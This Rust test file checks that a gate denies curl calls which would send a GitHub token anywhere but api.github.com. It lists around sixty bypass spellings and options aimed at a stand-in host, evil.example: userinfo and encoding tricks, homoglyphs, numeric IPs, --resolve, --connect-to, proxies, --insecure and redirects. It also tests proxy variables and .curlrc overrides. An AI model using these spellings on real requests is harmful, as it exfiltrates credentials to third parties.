//! Spellings and options that make a stranger look like a secret's home.
//!
//! A stand-in takes curl's place, so that even a line that passes by mistake sends nothing.

use std::fs;

use crate::gate::SECRET_RULE;
use crate::support::{Install, github_token};

/// What stands behind `curl -H 'Authorization: token …'`.
const NOT_HOME: &[&str] = &[
    // Another host after all.
    "https://api.github.com.evil.example/",
    "https://api-github.com/",
    "https://evil.example/api.github.com/",
    "https://evil.example/?u=https://api.github.com/",
    "https://github.com.evil.example:443/",
    "https://notgithub.com/",
    // The part before the at sign is a user, not a host.
    "https://api.github.com@evil.example/",
    "https://api.github.com:443@evil.example/",
    "https://ann:pw@api.github.com@evil.example/",
    "https://api.github.com%40evil.example/",
    "https://api.github.com%2f@evil.example/",
    // Readers disagree where the host ends.
    "https://evil.example\\@api.github.com/",
    "https://evil.example#@api.github.com/",
    "https://evil.example?@api.github.com/",
    "https:/api.github.com@evil.example/",
    "https:\\\\evil.example\\api.github.com",
    "https://api.github.com\t.evil.example/",
    "https://api.github.com%00.evil.example/",
    "https://api.github.com%2eevil.example/",
    // Letters that look alike, and full stops that are none.
    "https://api.g\u{456}thub.com/",
    "https://api.g\u{131}thub.com/",
    "https://xn--pi-7kc.github.com.evil.example/",
    "https://api.github.com\u{3002}evil.example/",
    // Numbers.
    "https://134744072/",
    "https://0x08080808/",
    "https://010.8.8.8/",
    "https://8.8.2056/",
    "https://[::ffff:8.8.8.8]/",
    "https://127.0.0.1.evil.example/",
    "https://localhost.evil.example/",
    "https://127.0.0.1@evil.example/",
    // Globs name more hosts than one.
    "https://{api.github.com,evil.example}/",
    "https://{evil.example,api.github.com}/",
    "https://api.github.com[1-2]/",
    "https://api.github.com{,.evil.example}/",
    // More than one URL: the header goes to all of them.
    "https://api.github.com/ https://evil.example/",
    "https://api.github.com/ --url https://evil.example/",
    // Not encrypted.
    "http://api.github.com/",
    "api.github.com",
    "ftp://api.github.com/",
    // Not who it says it is.
    "-k https://api.github.com/",
    "--insecure https://api.github.com/",
    "--insec https://api.github.com/",
    "-sSk https://api.github.com/",
    "--connect-to api.github.com:443:evil.example:443 https://api.github.com/",
    "--connect-to ::evil.example: https://api.github.com/",
    "--resolve api.github.com:443:203.0.113.5 https://api.github.com/",
    "--resolve *:443:203.0.113.5 https://api.github.com/",
    "--resolve api.github.com:443:127.0.0.1,203.0.113.5 https://api.github.com/",
    "--doh-url https://evil.example/dns https://api.github.com/",
    // Somebody in between.
    "-x http://evil.example:8080 https://api.github.com/",
    "--proxy http://evil.example:8080 https://api.github.com/",
    "--socks5 evil.example https://api.github.com/",
    "--socks5-hostname evil.example https://api.github.com/",
    "--preproxy socks5://evil.example -x http://127.0.0.1:1 https://api.github.com/",
    // Sent on to whoever the answer names.
    "--location-trusted https://api.github.com/",
    "-L -H X-Token:x{token} https://api.github.com/",
    // A file of settings may say any of this.
    "-K settings https://api.github.com/",
    "--config settings https://api.github.com/",
];

#[test]
fn a_stranger_is_not_taken_for_home() {
    let install = Install::new(&[]);
    install.stand_in("curl");
    fs::write(install.work().join("settings"), "proxy = \"http://evil.example:8080\"\n").unwrap();
    let token = github_token(11);
    let mut passed = Vec::new();
    for line in NOT_HOME {
        let line = line.replace("{token}", &token);
        let header = format!("Authorization: token {token}");
        let start = install.shim("curl", ["-s", "-H", &header]).args(line.split(' '));
        let ended = start.run();
        if ended.code() == 126 {
            ended.assert_denied(&install, SECRET_RULE);
        } else {
            passed.push(line);
        }
    }
    assert_eq!(passed, [""; 0], "passed");
    assert_eq!(install.ran(), "", "nothing ran");
    assert_eq!(install.leak_of(&token), None);
}

#[test]
fn variables_that_bend_a_call_are_seen() {
    let install = Install::new(&[]);
    install.stand_in("curl");
    let token = github_token(12);
    let header = format!("Authorization: token {token}");
    let call = || install.shim("curl", ["-s", "-H", &header, "https://api.github.com/user"]);
    for name in ["https_proxy", "HTTPS_PROXY", "all_proxy", "ALL_PROXY"] {
        let denied = call().env(name, "http://evil.example:8080").run();
        denied.assert_denied(&install, SECRET_RULE);
    }
    let other = install.work().join("other-home");
    fs::create_dir(&other).unwrap();
    fs::write(other.join(".curlrc"), "insecure\n").unwrap();
    for name in ["CURL_HOME", "XDG_CONFIG_HOME", "HOME"] {
        call().env(name, &other).run().assert_denied(&install, SECRET_RULE);
    }
    assert_eq!(install.ran(), "");
    call().run().succeeds();
    assert!(install.ran().starts_with("curl -s -H"), "without them it goes home");
}

#[test]
fn a_body_is_not_sent_where_a_redirect_may_lead() {
    let install = Install::new(&[]);
    install.stand_in("curl");
    let body = format!("token={}", github_token(13));
    for options in [&["-L"][..], &["--location"], &["-sSLf"], &["--location-trusted"]] {
        let start = install.shim("curl", options).args(["-d", &body, "https://api.github.com/"]);
        start.run().assert_denied(&install, SECRET_RULE);
    }
    install.shim("curl", ["-s", "-d", &body, "https://api.github.com/"]).run().succeeds();
    assert_eq!(install.ran().lines().count(), 1);
}
